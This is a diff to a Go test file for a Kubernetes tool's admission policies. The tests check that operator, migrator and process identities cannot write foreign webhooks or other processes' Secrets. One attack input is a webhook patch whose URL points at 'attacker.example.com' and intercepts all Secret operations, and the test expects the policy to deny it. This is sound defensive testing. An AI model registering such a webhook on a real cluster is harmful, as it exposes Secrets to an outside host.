@@ -6,6 +6,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"strings"
 	"testing"
@@ -28,50 +29,61 @@ import (
 // migratorName is the name of the migrator of the simulated cloud's provider.
 const migratorName = "machinist-migrator-" + driver.Name
 
-// asServiceAccount returns a client with the identity of a process's ServiceAccount, to which the charts bind the roles
-// of the process.
-func (m *machinist) asServiceAccount(process string) client.Client {
-	return m.as("system:serviceaccount:"+stack.SystemNamespace+":"+process, "system:serviceaccounts",
-		"system:serviceaccounts:"+stack.SystemNamespace)
-}
-
-// asMigrator installs the roles of a migrator, and returns a client with its identity.
+// asMigrator installs the policies and roles of a migrator, and returns a client with its identity. The namespaces of
+// the migrator include that of the processes, so that only the policies protect the Secrets there.
 func (m *machinist) asMigrator() client.Client {
 	m.t.Helper()
-	if _, err := m.NewMigrator(context.Background(), "migrator"); err != nil {
+	if _, err := m.NewMigrator(context.Background(), []string{namespace, stack.SystemNamespace}, "unused"); err != nil {
 		m.t.Fatal(err)
 	}
-	return m.asServiceAccount(migratorName)
+	c := m.asServiceAccount(migratorName)
+	eventually(m.t, "the migrator has its roles", func() (bool, string) {
+		ctx := context.Background()
+		err := errors.Join(c.List(ctx, &admissionv1.ValidatingWebhookConfigurationList{}),
+			c.List(ctx, &corev1.SecretList{}, client.InNamespace(namespace)),
+			c.List(ctx, &corev1.SecretList{}, client.InNamespace(stack.SystemNamespace)))
+		return err == nil, errorText(err)
+	})
+	return c
 }
 
-// asOperator installs the roles of the operator, and returns a client with its identity.
+// asOperator installs the policy and the roles of the operator, and returns a client with its identity.
 func (m *machinist) asOperator() client.Client {
 	m.t.Helper()
-	objects, err := manifests.RenderMachinist(manifests.Release{Name: "machinist", Namespace: stack.SystemNamespace,
-		Values: map[string]any{"install": map[string]any{"processes": false}, "operator": map[string]any{"enabled": true}}})
+	ctx := context.Background()
+	objects, err := manifests.Operator()
 	if err != nil {
 		m.t.Fatal(err)
 	}
-	for _, object := range objects {
-		if !strings.HasPrefix(object.GetName(), installer.Name) {
-			continue
-		}
-		if err := install.Apply(context.Background(), m.Control.Config(), object); err != nil {
-			m.t.Fatal(err)
-		}
+	if err := install.Apply(ctx, m.Control.Config(), objects...); err != nil {
+		m.t.Fatal(err)
 	}
-	return m.asServiceAccount(installer.Name)
+	c := m.asServiceAccount(installer.Name)
+	foreign := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: stack.SystemNamespace, Name: "foreign"}}
+	eventually(m.t, "the operator has its roles, and the policy limits them", func() (bool, string) {
+		if err := c.List(ctx, &admissionv1.ValidatingWebhookConfigurationList{}); err != nil {
+			return false, errorText(err)
+		}
+		err := c.Create(ctx, foreign.DeepCopy(), client.DryRunAll)
+		return deniedBy("operator", err), errorText(err)
+	})
+	return c
+}
+
+// deniedBy reports whether a policy of the chart denied a request.
+func deniedBy(policy string, err error) bool {
+	return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+".machinist.dev'")
 }
 
 // wantDeniedBy fails the test unless a policy of the chart denied the request.
 func (m *machinist) wantDeniedBy(policy, what string, err error) {
 	m.t.Helper()
-	if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+".machinist.dev'") {
+	if !deniedBy(policy, err) {
 		m.t.Errorf("%s: got error %v, want a rejection by the policy %s", what, err, policy)
 	}
 }
 
-// wantAllowed fails the test if a request was refused.
+// wantAllowed fails the test if a request is refused.
 func (m *machinist) wantAllowed(what string, err error) {
 	m.t.Helper()
 	if err != nil {
@@ -148,15 +160,14 @@ func bundleOf(configuration client.Object) []byte {
 	return nil
 }
 
-// An attacker with the identity of the operator or of a migrator installs or deletes webhooks that are none of its
-// business.
+// An attacker with the identity of the operator or of a migrator installs or deletes webhooks that do not belong to a
+// provider or to an old system.
 //
 // Rule: webhooks-limited-by-policy.
 func TestAttackOperatorAndMigratorWriteForeignWebhooks(t *testing.T) {
 	t.Parallel()
 	ctx := context.Background()
 	m := start(t, stack.Options{})
-	const policy = "processes-webhooks"
 	operator, migrator := m.asOperator(), m.asMigrator()
 	for name, groups := range map[string][]string{
 		"machinist-provider-foreign": {""}, "old": {"machine.sapcloud.io", "machine.k8s.io"},
@@ -171,26 +182,24 @@ func TestAttackOperatorAndMigratorWriteForeignWebhooks(t *testing.T) {
 	if err := m.control.Create(ctx, withoutRules); err != nil {
 		t.Fatal(err)
 	}
-	// The authorizer sees new bindings only after a moment.
-	for name, c := range map[string]client.Client{installer.Name: operator, migratorName: migrator} {
-		eventually(t, name+" has its roles", func() (bool, string) {
-			err := c.List(ctx, &admissionv1.ValidatingWebhookConfigurationList{})
-			return err == nil, errorText(err)
-		})
-	}
 
 	patch := func(c client.Client, name, text string) error {
 		return c.Patch(ctx, webhookOf(name), client.RawPatch(types.MergePatchType, []byte(text)))
 	}
 	const acme = "machinist-provider-acme"
-	m.wantAllowed("the operator creates the webhook of a provider", operator.Create(ctx, webhookOf(acme, v1beta1.GroupName)))
+	m.wantAllowed("the operator creates the webhook of a provider",
+		operator.Create(ctx, webhookOf(acme, v1beta1.GroupName)))
 	m.wantAllowed("the operator changes the webhook of a provider",
 		patch(operator, acme, `{"metadata": {"annotations": {"a": "b"}, "labels": {"a": "b"}}}`))
+	generated := webhookOf("machinist-provider-mine", v1beta1.GroupName)
+	generated.Name, generated.GenerateName = "", "machinist-provider-"
 	for what, err := range map[string]error{
-		"create a webhook with another name":       operator.Create(ctx, webhookOf("mine", v1beta1.GroupName)),
-		"create a webhook for core kinds":          operator.Create(ctx, webhookOf("machinist-provider-mine", "")),
-		"create a webhook for all kinds":           operator.Create(ctx, webhookOf("machinist-provider-mine", "*")),
-		"create a webhook for two groups":          operator.Create(ctx, webhookOf("machinist-provider-mine", v1beta1.GroupName, "apps")),
+		"create a webhook with another name":     operator.Create(ctx, webhookOf("mine", v1beta1.GroupName)),
+		"create a webhook with a generated name": operator.Create(ctx, generated),
+		"create a webhook for core kinds":        operator.Create(ctx, webhookOf("machinist-provider-mine", "")),
+		"create a webhook for all kinds":         operator.Create(ctx, webhookOf("machinist-provider-mine", "*")),
+		"create a webhook for two groups": operator.Create(ctx,
+			webhookOf("machinist-provider-mine", v1beta1.GroupName, "apps")),
 		"delete the manager's webhook":             operator.Delete(ctx, webhookOf(stack.Manager)),
 		"delete a webhook of another program":      operator.Delete(ctx, webhookOf("shared")),
 		"delete a foreign webhook with our prefix": operator.Delete(ctx, webhookOf("machinist-provider-foreign")),
@@ -199,21 +208,21 @@ func TestAttackOperatorAndMigratorWriteForeignWebhooks(t *testing.T) {
 			"sideEffects": "None", "admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://attacker.example.com/"},
 			"rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}]}]}`),
 	} {
-		m.wantDeniedBy(policy, "the operator: "+what, err)
+		m.wantDeniedBy("operator", "the operator: "+what, err)
 	}
 	m.wantAllowed("the operator deletes the webhook of a provider", operator.Delete(ctx, webhookOf(acme)))
 
 	for _, name := range []string{stack.Manager, stack.Provider, "shared", "all", "without-rules",
 		"machinist-provider-foreign"} {
-		m.wantDeniedBy(policy, "the migrator deletes "+name, migrator.Delete(ctx, webhookOf(name)))
+		m.wantDeniedBy("migrator", "the migrator deletes "+name, migrator.Delete(ctx, webhookOf(name)))
 	}
-	m.wantDeniedBy(policy, "the migrator deletes the manager's mutating webhook", migrator.Delete(ctx,
+	m.wantDeniedBy("migrator", "the migrator deletes the manager's mutating webhook", migrator.Delete(ctx,
 		&admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: stack.Manager}}))
 	m.wantAllowed("the migrator deletes a webhook of the old system", migrator.Delete(ctx, webhookOf("old")))
 }
 
-// An attacker with the identity of one process uses what the policy for Secrets allows to another process, or changes
-// what it did not compare.
+// An attacker with the identity of one process writes Secrets and ConfigMaps that only another process may write, or
+// changes other fields of a Secret than the finalizer.
 //
 // Rule: secrets-limited-by-policy.
 func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
@@ -223,10 +232,6 @@ func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
 	m.removeDelays()
 	m.createFleet(0, nil)
 	manager, provider, migrator := m.asServiceAccount(stack.Manager), m.asServiceAccount(stack.Provider), m.asMigrator()
-	eventually(t, "the migrator has its roles", func() (bool, string) {
-		err := migrator.List(ctx, &corev1.SecretList{})
-		return err == nil, errorText(err)
-	})
 	in := func(namespace, name string) metav1.ObjectMeta {
 		return metav1.ObjectMeta{Namespace: namespace, Name: name}
 	}
@@ -267,7 +272,8 @@ func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
 		"the provider creates a Secret as a migrator does": provider.Create(ctx, copied(stack.SystemNamespace, "mine")),
 		"the manager creates a Secret as a migrator does":  manager.Create(ctx, copied(stack.SystemNamespace, "mine")),
 		"the provider lets no one renew credentials":       patch(provider, credentials.DeepCopy(), `{"immutable": true}`),
-		"the provider removes the old system's finalizer":  patch(provider, owned.DeepCopy(), `{"metadata": {"finalizers": null}}`),
+		"the provider removes the old system's finalizer": patch(provider, owned.DeepCopy(),
+			`{"metadata": {"finalizers": null}}`),
 		// The garbage collector deletes a Secret whose owners do not exist.
 		"the migrator deletes a Secret by its owner": patch(migrator, owned.DeepCopy(), gone),
 		"the migrator labels credentials": patch(migrator, credentials.DeepCopy(),
@@ -287,7 +293,8 @@ func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
 		"machine.sapcloud.io/machine-controller-manager", "machinist.dev/in-use"]}}`))
 	m.wantAllowed("the migrator removes the old system's finalizer",
 		patch(migrator, owned.DeepCopy(), `{"metadata": {"finalizers": ["machinist.dev/in-use"]}}`))
-	m.wantAllowed("the provider releases credentials", patch(provider, owned.DeepCopy(), `{"metadata": {"finalizers": null}}`))
+	m.wantAllowed("the provider releases credentials",
+		patch(provider, owned.DeepCopy(), `{"metadata": {"finalizers": null}}`))
 	m.wantAllowed("the migrator creates a record",
 		migrator.Create(ctx, &corev1.ConfigMap{ObjectMeta: in(namespace, "machinist-migration-over-0")}))
 	m.wantAllowed("the migrator copies a Secret", migrator.Create(ctx, copied(namespace, "first")))
@@ -297,6 +304,7 @@ func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
 	m.wantAllowed("the migrator completes a copy",
 		patch(migrator, copied(namespace, "first"), `{"metadata": {"labels": {"machinist.dev/migration": null},
 			"annotations": {"machinist.dev/after-migration": null}}}`))
-	m.wantDeniedBy("processes-secrets", "the migrator deletes a completed copy", migrator.Delete(ctx, copied(namespace, "first")))
+	m.wantDeniedBy("processes-secrets", "the migrator deletes a completed copy",
+		migrator.Delete(ctx, copied(namespace, "first")))
 	m.wantAllowed("the migrator deletes a copy", migrator.Delete(ctx, copied(namespace, "second")))
 }
